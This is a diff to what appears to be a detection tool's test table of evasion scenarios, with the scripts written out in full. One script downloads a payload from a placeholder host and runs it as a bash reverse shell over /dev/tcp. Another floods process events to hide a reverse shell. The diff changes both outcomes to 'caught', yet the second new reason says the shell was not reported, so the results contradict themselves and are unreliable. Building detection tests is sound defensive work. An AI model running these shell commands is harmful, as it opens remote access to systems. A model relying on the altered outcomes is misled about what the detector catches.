@@ -13,10 +13,10 @@ export const TRAILS = evasions([
     needs: ["cc", "curl"],
     prepare: prepared(),
     script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'exec $HOOD/x -i >& /dev/tcp/'$FAR'/4444 0>&1'`,
-    hides: "dropped-file",
-    outcome: "in part",
+    hides: "reverse-shell",
+    outcome: "caught",
     because:
-      "the orphan is told with its ancestors, whoever has adopted it; that what was downloaded became a shell at a connection was not told",
+      "the orphan is told with its ancestors, whoever has adopted it, and what it came to do with the incident of the tool that began it",
   },
   {
     id: "evasion.scattered-hunt",
@@ -53,9 +53,9 @@ export const TRAILS = evasions([
     prepare: prepared(),
     script: `${PROGRAM} flood 4 /bin/true & ${PROGRAM} flood 4 /bin/true & sleep 2; act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'; wait`,
     hides: "reverse-shell",
-    outcome: "in part",
+    outcome: "caught",
     because:
-      "who floods is told within a second; the shell at a connection was not told beside half a million lost records",
+      "starts of programs have room left where opens have none, and half a million of those were lost; on a machine that others kept busy as well, who floods was told and the shell was not",
   },
   {
     id: "evasion.mimicry",
